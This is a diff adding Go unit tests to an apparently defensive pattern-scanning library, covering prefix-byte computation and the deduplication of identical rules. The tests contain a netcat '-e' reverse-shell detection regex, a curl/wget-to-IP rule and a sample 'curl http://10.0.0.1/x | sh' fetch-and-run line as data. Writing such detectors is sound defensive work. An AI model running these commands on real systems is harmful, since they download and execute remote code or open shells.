@@ -289,7 +289,7 @@ func TestPrefixBytes(t *testing.T) {
 		re   string
 		want []string // each position's bytes, in order
 	}{
-		{`[;|](nc|ncat|netcat)\s-e`, []string{";|", "n", "ce", "\t\n\f\r at"}},
+		{`[;|](nc|ncat|netcat)\s-e`, []string{";|", "n", "ce", "\t\n\f\r at", "-ct", "\t\n\f\r ae"}}, // "nc -e" ends a match after six bytes
 		{`ab|abcd`, []string{"a", "b"}},
 		{`a*bc`, []string{"ab", "abc"}}, // "bc" ends a match after two bytes
 		{`(?i)xy[0-9]`, []string{"Xx", "Yy", "0123456789"}},
@@ -410,5 +410,37 @@ func TestScannerReuse(t *testing.T) {
 	}
 	for range 4 {
 		<-done
+	}
+}
+
+// Rules often share a pattern: identical definitions (but for the ID) are compiled and
+// matched once and reported for each, in the order given, as if matched separately.
+func TestSamePatternMatchedOnce(t *testing.T) {
+	data := []byte("curl http://10.0.0.1/x | sh; wget http://example.org/ ; echo hello HELLO")
+	defs := []Def{
+		{ID: "a", Kind: Regex, Text: `(curl|wget)\s+http://[0-9.]+/`},
+		{ID: "b", Kind: Literal, Text: "hello", Nocase: true},
+		{ID: "c", Kind: Regex, Text: `(curl|wget)\s+http://[0-9.]+/`},
+		{ID: "d", Kind: Literal, Text: "hello"},
+		{ID: "e", Kind: Literal, Text: "hello", Nocase: true},
+		{ID: "f", Kind: Literal, Text: "absent"},
+		{ID: "g", Kind: Literal, Text: "absent"},
+	}
+	set, err := Compile(defs)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(set.subs) != 4 {
+		t.Errorf("%d subs compiled for 4 distinct patterns", len(set.subs))
+	}
+	together := scanAll(t, defs, data, ScanOptions{})
+	for i, d := range defs {
+		alone := scanAll(t, []Def{d}, data, ScanOptions{})[0]
+		if fmt.Sprint(together[i]) != fmt.Sprint(alone) {
+			t.Errorf("%s: %v together, %v alone", d.ID, together[i], alone)
+		}
+	}
+	if fmt.Sprint(together[:5]) != "[[{0 21}] [{61 5} {67 5}] [{0 21}] [{61 5}] [{61 5} {67 5}]]" {
+		t.Errorf("matches %v", together)
 	}
 }
